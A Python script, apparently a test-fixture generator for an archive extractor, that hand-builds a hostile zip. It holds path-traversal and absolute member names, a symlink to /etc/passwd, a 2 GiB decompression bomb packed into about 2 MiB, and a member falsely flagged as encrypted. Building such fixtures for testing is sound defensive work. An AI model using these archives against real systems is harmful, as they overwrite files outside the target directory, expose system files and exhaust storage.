#!/usr/bin/env python3
"""mkhostile-zip.py OUT.zip [NESTED.zip] -- a delivery zip an attacker
could send: member names that climb out of an extraction directory, an
absolute name, a symbolic link, a decompression bomb (2 GiB of zeros in
about 2 MiB), a member flagged as encrypted, one harmless file, and,
when given, a real encrypted zip nested inside.

Written by hand rather than with zipfile: zipfile cannot set the
encryption flag, and deflating 2 GiB takes it ten seconds where repeating
one fully flushed deflate block takes none.
"""
import struct
import sys
import zlib

MIB = 1 << 20


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def bomb(mib):
    """Raw deflate of mib MiB of zeros, and its CRC-32."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zero = bytes(MIB)
    # A full flush ends the block on a byte boundary and forgets the
    # window, so the same bytes decode to 1 MiB of zeros wherever they sit.
    piece = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(zero, crc)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()   # empty final block
    return piece * mib + final, crc


def main():
    out = sys.argv[1]
    members = []   # (name, method, flags, crc, csize, usize, data, unix_mode)

    def add(name, content, mode=0o100644, flags=0, method=8):
        data = deflate(content) if method == 8 else content
        members.append((name.encode(), method, flags, zlib.crc32(content), len(data),
                        len(content), data, mode))

    add('../../etc/evil.txt', b'written outside the extraction directory\n')
    add('/abs/path.txt', b'an absolute name\n')
    add('dir/../../x', b'a .. in the middle of the name\n')
    add('link-to-passwd', b'/etc/passwd', mode=0o120777, method=0)
    add('ok.txt', b'a harmless file\n')
    # Bit 0: encrypted. The data is not, but a reader must not look.
    add('secret.txt', b'not really encrypted, only flagged\n', flags=1)
    data, crc = bomb(2048)
    members.append((b'bomb.bin', 8, 0, crc, len(data), 2048 * MIB, data, 0o100644))
    if len(sys.argv) > 2:
        with open(sys.argv[2], 'rb') as f:
            inner = f.read()
        add('encrypted.zip', inner, method=0)

    with open(out, 'wb') as f:
        central = b''
        for name, method, flags, crc, csize, usize, data, mode in members:
            off = f.tell()
            f.write(struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, method, 0, 0x21,
                                crc, csize, usize, len(name), 0) + name + data)
            central += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 0x0314, 20, flags, method,
                                   0, 0x21, crc, csize, usize, len(name), 0, 0, 0, 0,
                                   mode << 16, off) + name
        cd = f.tell()
        f.write(central)
        f.write(struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(members), len(members),
                            len(central), cd, 0))


main()
